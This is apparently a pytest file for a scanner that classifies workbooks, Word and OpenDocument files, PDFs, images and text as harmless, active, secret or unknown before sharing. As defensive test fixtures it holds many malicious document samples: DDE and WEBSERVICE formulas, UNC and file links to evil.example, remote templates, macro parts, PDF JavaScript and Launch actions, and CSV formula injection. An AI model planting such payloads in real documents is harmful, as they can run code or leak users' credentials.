"""What may be shown to others, format by format: what acts, carries a token of ours, or cannot be looked through is told from the rest."""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable

import openpyxl
import pytest

from tests.attacks.books import changed, with_dde, with_external_link, with_macros, with_part
from workbooks.harmless import LARGEST, Fitness, look_through

TOKEN = "abcdefghij234567"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TEXT, TABLE, DRAW, SCRIPT, XLINK = (
    f"urn:oasis:names:tc:opendocument:xmlns:{name}:1.0" for name in ("text", "table", "drawing", "script", "xlink")
)


def xlsx(value: str = "a", formula: str = "=1+1", link: str = "") -> bytes:
    """Return a workbook with a text, a formula and a hyperlink."""
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet["A1"], sheet["A2"] = value, formula
    if link:
        sheet["A3"] = "link"
        sheet["A3"].hyperlink = link
    saved = io.BytesIO()
    book.save(saved)
    return saved.getvalue()


def zipped(**parts: str | bytes) -> bytes:
    """Return a package of these parts, whose names have `__` for a slash and `_` for a point."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_", "."), content)
    return packed.getvalue()


def docx(body: str = "", relation: str = "", types: str = "", **more: str | bytes) -> bytes:
    """Return a document of Word."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("[Content_Types].xml", f'<Types><Override PartName="/word/document.xml" ContentType="{kind}"/>{types}</Types>')
        archive.writestr("_rels/.rels", f'<Relationships xmlns="{PACKAGE}"/>')
        archive.writestr("word/document.xml", f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>')
        archive.writestr("word/_rels/document.xml.rels", f'<Relationships xmlns="{PACKAGE}">{relation}</Relationships>')
        for name, content in more.items():
            archive.writestr(name.replace("__", "/").replace("_", "."), content)
    return packed.getvalue()


def relation(kind: str, target: str, mode: str = "External") -> str:
    """Return a relationship of a document."""
    return f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode}"/>'


def opendocument(body: str = "", kind: str = "text", **more: str | bytes) -> bytes:
    """Return a package of OpenDocument."""
    spaces = f'xmlns:text="{TEXT}" xmlns:table="{TABLE}" xmlns:draw="{DRAW}" xmlns:script="{SCRIPT}" xmlns:xlink="{XLINK}"'
    return zipped(
        mimetype=f"application/vnd.oasis.opendocument.{kind}",
        content_xml=f"<content {spaces}>{body}</content>",
        **{"META-INF__manifest_xml": "<manifest/>", **more},
    )


def pdf(*objects: bytes, packed: bytes = b"") -> bytes:
    """Return a PDF of these objects, and of those packed in an object stream."""
    stream = zlib.compress(b"1 0 " + packed)
    extra = b"9 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%b\nendstream endobj\n" % (
        len(stream),
        stream,
    )
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\n" + (extra if packed else b"") + b"trailer << /Root 1 0 R >>\n%%EOF\n"


CATALOG = b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj"
PICTURE = b"\x89PNG\r\n\x1a\n" + b"".join(
    bytes(3) + bytes([len(data)]) + kind + data + bytes(4) for kind, data in ((b"IHDR", bytes(13)), (b"IEND", b""))
)
PHOTO = b"\xff\xd8\xff\xe0\0\4ab\xff\xda\0\2\1\xff\0\xff\xd0\2\xff\xd9"
DRAWING = b"GIF89a\1\0\1\0\x80\0\0" + bytes(6) + b"!\xfe\2hi\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"
FAX = b"II*\0" + bytes(40)


ORDINARY = (
    "=IF(A1='My sheet'!B2,\"It's: [1] of 2!\",Table1[Sum]-'It''s'!A1)",
    '=HYPERLINK("https://ministry.example/"&A1,"see")',
    '=HYPERLINK("#\'My sheet\'!A1","see")',
    '=SUM(INDIRECT("A"&ROW()&":B2"))',
)
FOUND_IN_LETTERS = """<w:p><w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "/><w:r><w:fldChar w:fldCharType="begin"/></w:r>
<w:r><w:instrText> TOC \\o "1-3" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>
<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> HYPER</w:instrText></w:r>
<w:r><w:instrText>LINK \\l "_Toc1" </w:instrText></w:r>
<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1 Scope</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>
<w:r><w:fldChar w:fldCharType="end"/></w:r><w:fldSimple w:instr='hyperlink "mailto:a@ministry.example" \\o "write"'/></w:p>"""


@pytest.mark.parametrize(
    ("data", "name", "ending"),
    [
        (xlsx(), "a.xlsx", ".xlsx"),
        (xlsx(link="https://ministry.example/report"), "a.xlsx", ".xlsx"),
        (xlsx(link="mailto:a@ministry.example"), "a.xlsx", ".xlsx"),
        (docx("<w:p>Responsibilities are administrationsrecht.</w:p>"), "a.docx", ".docx"),
        (docx(relation=relation("hyperlink", "https://ministry.example/")), "a.docx", ".docx"),
        (docx(word__media__image1_png=PICTURE), "a.docx", ".docx"),
        (opendocument('<text:a xlink:href="https://ministry.example/">x</text:a>'), "a.odt", ".odt"),
        (opendocument('<draw:image xlink:href="Pictures/1.png"/>', Pictures__1_png=PICTURE), "a.odt", ".odt"),
        (opendocument("<table:table/>", kind="spreadsheet"), "a.ods", ".ods"),
        (pdf(CATALOG), "letter.pdf", ".pdf"),
        (pdf(CATALOG, packed=b"<< /Type /Page /JSON 1 >>"), "letter.pdf", ".pdf"),
        (pdf(b"1 0 obj << /Type /Catalog /OpenAction [3 0 R /Fit] >> endobj"), "letter.pdf", ".pdf"),
        (PICTURE, "scan.PNG", ".png"),
        (PHOTO, "evil.html", ".jpg"),
        (PHOTO + bytes(3) + PHOTO, "a picture and its brightness.jpg", ".jpg"),
        (DRAWING, "a.gif", ".gif"),
        (FAX, "a.tif", ".tif"),
        *((xlsx(formula=formula), "a.xlsx", ".xlsx") for formula in ORDINARY),
        (docx(FOUND_IN_LETTERS), "a.docx", ".docx"),
        (
            opendocument("<table:table-cell table:formula='of:=HYPERLINK(&quot;https://a.example/&quot;;[.A1])'/>", kind="spreadsheet"),
            "a.ods",
            ".ods",
        ),
        (
            pdf(b"1 0 obj << /A << /S /URI /URI (https://ministry.example/) >> /B << /S/URI/URI<6D61696C746F3A61> >> >> endobj"),
            "a.pdf",
            ".pdf",
        ),
        ("Réponses, 12\n".encode(), "note.txt", ".txt"),
        (b"a;b\n-12;+3.5\n", "a.csv", ".csv"),
    ],
)
def test_what_only_shows_something_is_harmless_and_is_called_as_what_it_is(data: bytes, name: str, ending: str) -> None:
    """Links that a person follows, pictures within, negative numbers: these act as little as words do."""
    looked = look_through(data, name)
    assert (looked.fitness, looked.ending) == (Fitness.HARMLESS, ending)


EMBEDDED = f"{OFFICE}/oleObject"


@pytest.mark.parametrize(
    "change",
    [
        with_macros,
        lambda book: with_external_link(book, "http://evil.example/a.xlsx"),
        lambda book: with_dde(book, "/c calc.exe"),
        lambda book: with_part(book, "xl/embeddings/oleObject1.bin", b"MZ", EMBEDDED, EMBEDDED),
        lambda book: with_part(book, "xl/connections.xml", b"<connections/>", "application/xml", f"{OFFICE}/connections"),
        lambda book: with_part(book, "xl/harmless.xml", b"<a/>", "application/xml", f"{OFFICE}/attachedToolbars"),
    ],
)
def test_a_workbook_acts_by_its_parts(change: Callable[[bytes], bytes]) -> None:
    """Macros, links to other files, DDE, objects, connections, and whatever relationship is not known to lead to contents."""
    assert look_through(change(xlsx()), "a.xlsx").fitness is Fitness.ACTIVE


FORMULAS = (
    "=cmd|'/c calc'!A0",
    '=WEBSERVICE("http://evil.example/")',
    '=RTD("a.b",,"c")',
    '=IMPORTDATA("https://evil.example/")',
    "='\\\\evil.example\\share\\[x.xlsx]S'!A1",
    "='\\\\evil.example\\share\\x.xlsx'!total",
    "='C:\\share\\It''s [x.xlsx]S'!A1",
    "='https://evil.example/x.xlsx'!total",
    "=[1]S!A1",
    "=[x.xlsx]!total",
    "='file:///c:/x.ods'#$S.A1",
    '=HYPERLINK("file://evil.example/x","click")',
    '=HYPERLINK("\\\\evil.example\\x","click")',
    '=HYPERLINK("fi"&"le://evil.example/x","click")',
    "=HYPERLINK(A1)",
    "=INDIRECT(\"'\\\\evil.example\\[x.xlsx]S'!A1\")",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_workbook_acts_by_its_formulas(formula: str) -> None:
    """They start a program, ask a server, or name another file, for which Windows hands out its user's login."""
    assert look_through(xlsx(formula=formula), "a.xlsx").fitness is Fitness.ACTIVE


def sheet_of(cell: str) -> bytes:
    """Return a workbook whose one formula stands in its sheet as it is given here."""
    return changed(xlsx(formula="=1+1"), "xl/worksheets/sheet1.xml", lambda sheet: sheet.replace(b"<f>1+1</f>", cell.encode()))


@pytest.mark.parametrize(
    "cell",
    [
        "<f>WEB&#83;ERVICE(A1)</f>",
        "<f><![CDATA[WEBSERVICE(A1)]]></f>",
        "<f>WEB<!-- -->SERVICE(A1)</f>",
        f"<f>{'1+' * 9_000}WEBSERVICE(A1)</f>",
        "<a><formula1>[x.xlsx]S!A1</formula1></a>",
        "<a><calculatedColumnFormula>[x.xlsx]S!A1</calculatedColumnFormula></a>",
        '<a macro="[x.xlsm]!go"/>',
        '<a src="fil&#101;://evil.example/a"/>',
    ],
)
def test_a_formula_is_read_as_a_spreadsheet_program_reads_it(cell: str) -> None:
    """However its signs are written, however long it is, and wherever one may stand."""
    assert look_through(sheet_of(cell), "a.xlsx").fitness is Fitness.ACTIVE


@pytest.mark.parametrize("link", ["file:///c:/calc.exe", r"\\evil.example\share\a", "javascript:alert(1)"])
def test_a_link_may_lead_to_a_page_or_a_mailbox_only(link: str) -> None:
    """What it leads to else is opened by the machine."""
    assert look_through(xlsx(link=link), "a.xlsx").fitness is Fitness.ACTIVE


BEGIN, END = (f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>' for kind in ("begin", "end"))
FIELD = "<w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd</w:instrText></w:r>"


@pytest.mark.parametrize(
    "data",
    [
        docx(FIELD),
        docx('<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/&quot; "/>'),
        docx('<w:fldSimple w:instr="QUOTE 73 78"/>'),
        docx('<w:fldSimple w:instr="HYPERLINK &quot;file://evil.example/x&quot;"/>'),
        docx('<w:fldSimple w:instr="HYPERLINK \\\\\\\\evil.example\\\\x"/>'),
        docx(f'{BEGIN}<w:instrText>HYPERLINK "</w:instrText>{BEGIN}<w:instrText>REF a</w:instrText>{END}<w:instrText>"</w:instrText>{END}'),
        docx(f"{BEGIN}{BEGIN}<w:instrText>REF a</w:instrText>{END}<w:instrText>PAGE</w:instrText>{END}"),
        docx("", elsewhere__footer1_xml=f'<w:ftr xmlns:w="{WORD}"><w:instrText>DDE a b</w:instrText></w:ftr>'),
        docx(relation=relation("attachedTemplate", "http://evil.example/a.dotm")),
        docx(relation=relation("image", "http://evil.example/a.png")),
        docx(relation=relation("oleObject", "embeddings/a.bin", "Internal")),
        docx(relation=relation("aFChunk", "chunk.xml", "Internal")),
        docx(word__vbaProject_bin=b"MZ"),
        docx(types='<Override PartName="/word/a.xml" ContentType="application/vnd.ms-office.vbaProject"/>', word__a_xml="<a/>"),
        docx('<v:imagedata xmlns:v="v" src="http://evil.example/a.png"/>'),
    ],
)
def test_a_document_of_word_acts_by_fields_and_relationships(data: bytes) -> None:
    """Also where the name of the field is written in pieces, and where the part that acts has a name of another kind."""
    assert look_through(data, "a.docx").fitness is Fitness.ACTIVE


FOREIGN = "of:=['\\\\evil.example\\x.ods'#$S.A1]"


@pytest.mark.parametrize(
    "data",
    [
        opendocument(Basic__Standard__Module1_xml="<a/>"),
        opendocument("<script:event-listener/>"),
        opendocument('<draw:object xlink:href="./Object 1"/>'),
        opendocument('<draw:image xlink:href="http://evil.example/a.png"/>'),
        opendocument('<text:a xlink:href="file:///c:/a.exe">x</text:a>'),
        opendocument('<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;a&quot;;&quot;b&quot;)"/>', kind="spreadsheet"),
        opendocument("<table:table-source/>", kind="spreadsheet"),
        opendocument("<text:execute-macro/>"),
        opendocument(meta_xml="<a><auto-reload/></a>"),
        *(opendocument(f'<table:named-expression table:{name}="{FOREIGN}"/>', kind="spreadsheet") for name in ("expression", "condition")),
    ],
)
def test_a_package_of_opendocument_acts_by_scripts_objects_and_links(data: bytes) -> None:
    """As one of Office does."""
    assert look_through(data, "a.ods" if b"spreadsheet" in data[:200] else "a.odt").fitness is Fitness.ACTIVE


@pytest.mark.parametrize(
    "data",
    [
        pdf(b"1 0 obj << /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >> endobj"),
        pdf(b"1 0 obj << /OpenAction 5 0 R >> endobj"),
        pdf(b"1 0 obj << /S /#4aavaScript >> endobj"),
        pdf(b"1 0 obj << /AA << /O 5 0 R >> >> endobj"),
        pdf(b"1 0 obj << /S /Launch /F (calc.exe) >> endobj"),
        pdf(b"1 0 obj << /Names << /EmbeddedFiles 5 0 R >> >> endobj"),
        pdf(b"1 0 obj << /S /URI /URI (file://evil.example/x) >> endobj"),
        pdf(b"1 0 obj << /S /URI /URI %\n (\\\\\\\\evil.example\\\\x) >> endobj"),
        pdf(b"1 0 obj << /S /URI /URI 5 0 R >> endobj"),
        pdf(CATALOG, packed=b"<< /S /URI /UR#49 <66696c653a2f2f> >>"),
        pdf(CATALOG, packed=b"<< /S /JavaScript /JS (x) >>"),
        pdf(CATALOG, packed=b"<< /S /JavaScript /JS (x) >>").replace(b"/Type /ObjStm", b"/Type /Nothing"),
    ],
)
def test_a_pdf_acts_by_the_names_in_it(data: bytes) -> None:
    """Also where a letter of one is written by its number, and where it is packed with other objects."""
    assert look_through(data, "letter.pdf").fitness is Fitness.ACTIVE


@pytest.mark.parametrize("cell", ["=cmd|'/c calc'!A0", "@SUM(A1)", "+cmd|a", '"=1+1"'])
def test_a_text_of_cells_acts_by_formulas(cell: str) -> None:
    """A spreadsheet program takes for one whatever begins so."""
    assert look_through(f"a;b\n1;{cell}\n".encode(), "a.csv").fitness is Fitness.ACTIVE


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (xlsx(value=TOKEN), "a.xlsx"),
        (docx(f"<w:p>box+r{TOKEN}@unodc.example</w:p>"), "a.docx"),
        (opendocument(f"<text:p>{TOKEN}</text:p>"), "a.odt"),
        (f"The answer address is box+r{TOKEN}@unodc.example.".encode(), "a.txt"),
        (pdf(CATALOG, packed=f"({TOKEN})".encode()), "a.pdf"),
    ],
)
def test_a_file_that_carries_a_token_is_secret(data: bytes, name: str) -> None:
    """Wherever in it: who reads it could answer for the organisation."""
    assert look_through(data, name).fitness is Fitness.SECRET


PROGRAMS = ("bat", "cmd", "hta", "js", "vbs", "ps1", "iqy", "slk", "reg", "sh", "py", "ics", "txt.exe", "url", "library-ms")


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"<html><script>alert(1)</script></html>", "a.html"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "a.svg"),
        (b"MZ" + bytes(200), "a.exe"),
        (b"{\\rtf1 a}", "a.doc"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "a.xls"),
        (zipped(a_txt="a"), "a.zip"),
        (b"[InternetShortcut]\nURL=http://evil.example/", "a.url"),
        (b"junk %PDF-1.4", "a.pdf"),
        (pdf(b"1 0 obj << /Encrypt 5 0 R >> endobj"), "a.pdf"),
        (b"%PDF-1.7\n1 0 obj << /Type /ObjStm /Filter /LZWDecode >>\nstream\nxx\nendstream", "a.pdf"),
        (docx("x").replace(b"PK\3\4", b"PK\3\5", 1), "a.docx"),
        (
            zipped(**{"[Content_Types]_xml": "wordprocessingml", "word__document_xml": '<?xml version="1.0" encoding="UTF-7"?><a/>'}),
            "a.docx",
        ),
        (b"", "a.txt"),
        *((pieces + b"<script>alert(1)</script>PK\3\4", "a.png") for pieces in (PICTURE, PHOTO, DRAWING)),
        *((cut[:-2], "a.png") for cut in (PICTURE, PHOTO, DRAWING)),
        *((b"@echo off\r\ncalc.exe\r\n", f"a.{ending}") for ending in PROGRAMS),
        (b"a" * (LARGEST + 1), "a.txt"),
    ],
)
def test_what_cannot_be_looked_through_is_not_taken_for_harmless(data: bytes, name: str) -> None:
    """Kinds that can do anything, kinds that are broken or packed in another way, and what is too large to be sent anyway."""
    assert look_through(data, name).fitness is Fitness.UNKNOWN
